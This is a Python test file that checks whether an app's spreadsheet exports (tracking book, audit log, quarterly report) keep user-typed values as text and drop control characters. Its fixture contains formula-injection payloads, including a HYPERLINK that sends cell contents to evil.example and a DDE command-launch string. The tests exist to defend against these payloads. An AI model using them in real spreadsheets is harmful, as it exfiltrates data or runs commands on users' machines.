"""Exports open safely: what a user typed is text in the spreadsheet, never a formula, and a control
character in one name does not make the audit log, the tracking book or the report unexportable."""
from __future__ import annotations

import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from engine.models import Event
from engine.operations.audit import AuditRow, audit_xlsx
from forms.printing.book import COLUMNS, tracking_book_xlsx
from forms.reports.quarterly import report_xlsx

EVIL = {"formula": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "plus": "+cmd|'/c calc'!A0",
        "minus": "-2+3", "at": "@SUM(1+1)", "bell": "Nguyễn\x07 Văn\x00 A\x1b"}


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_safe(data: bytes) -> None:
    cells = _cells(data)
    assert not [c.value for c in cells if c.data_type == "f"], "a typed value became a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + EVIL["formula"] in texts and "'" + EVIL["at"] in texts and "'" + EVIL["minus"] in texts
    assert "Nguyễn Văn A" in texts


def test_the_tracking_book_writes_typed_values_as_text():
    rows = [{key: "" for key, _ in COLUMNS} | {"serial": i, "applicant": value, "contact": value}
            for i, value in enumerate(EVIL.values(), 1)]
    context = {"header": {"agency": "UBND phường"}, "title": "SỔ THEO DÕI", "unit": "Phường", "period": "Quý 1",
               "rows": rows}
    _assert_safe(tracking_book_xlsx(context))


def test_the_audit_log_writes_typed_values_as_text():
    at = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
    rows = [AuditRow(Event(kind="user.updated", at=at, message=value, payload={"name": value}), "u", value, "H26",
                     "Hà Nội", None) for value in EVIL.values()]
    data = audit_xlsx(rows)
    _assert_safe(data)
    assert any(isinstance(c.value, datetime) for c in _cells(data)), "times stay dates"


def test_the_quarterly_report_writes_typed_values_as_text():
    report = {"title": "Báo cáo", "unit": "Phường", "period": "Quý 1", "generated_at": "nay",
              "sections": [{"title": "Thủ tục", "headings": ["Tên", "Số"],
                            "rows": [[value, 3] for value in EVIL.values()]}]}
    data = report_xlsx(report)
    _assert_safe(data)
    assert 3 in [c.value for c in _cells(data)], "numbers stay numbers"
